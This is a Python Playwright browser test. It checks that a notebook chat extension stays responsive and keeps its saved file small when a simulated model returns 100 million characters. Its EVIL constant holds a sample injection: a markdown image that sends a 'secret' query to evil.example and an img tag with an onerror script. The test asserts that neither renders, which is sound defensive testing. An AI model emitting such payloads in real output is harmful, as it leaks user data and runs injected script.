"""A hundred megabytes of text as an answer: the page stays responsive, and the notebook small."""

import pytest
from playwright.sync_api import expect
from support.long_answer import WATCH_TASKS
from support.says import says

pytestmark = pytest.mark.browser

LENGTH = 100_000_000
EVIL = (
    "![leak](https://evil.example/leak.png?q=secret) <img src=https://evil.example/x onerror=window.pwned=1>"
)
FLOOD = f"%%chat -m demo/huge -p simulator.characters={LENGTH} {says(EVIL)}\nHello"
FEW_MB = 4_000_000


def assert_answers_a_click(lab, index):
    lab.cell(index).locator(".cm-content").click()
    lab.page.wait_for_function("(index) => window.__panel.content.activeCellIndex === index", arg=index)


def test_a_flood_leaves_the_page_usable_and_the_notebook_small(chat, simulator):
    lab = chat("6 * 7", FLOOD, "len(_.text)")
    lab.page.evaluate(WATCH_TASKS)
    lab.start(1)
    lab.live(1).get_by_text("More is arriving than can be shown").wait_for()
    assert_answers_a_click(lab, 0)
    lab.wait()
    assert [exchange.outcome for exchange in simulator.exchanges] == ["done"]
    expect(lab.live(1)).to_have_count(0)
    assert "more characters: the whole text is in `_.text`]" in lab.outputs(1)[0]["data"]["text/plain"]
    lab.output(1).get_by_text("leak").first.wait_for()
    assert_answers_a_click(lab, 0)
    assert lab.run(2)[0]["data"]["text/plain"] == str(LENGTH)
    assert lab.run(0)[0]["data"]["text/plain"] == "42"
    assert lab.output(1).locator("img").count() == 0
    assert len(lab.save()) < FEW_MB
    longest = lab.page.evaluate("() => window.__longest")
    print(
        f"longest task of the page {longest:.0f} ms, {lab.watch.size:,} bytes in {lab.watch.frames} messages"
    )
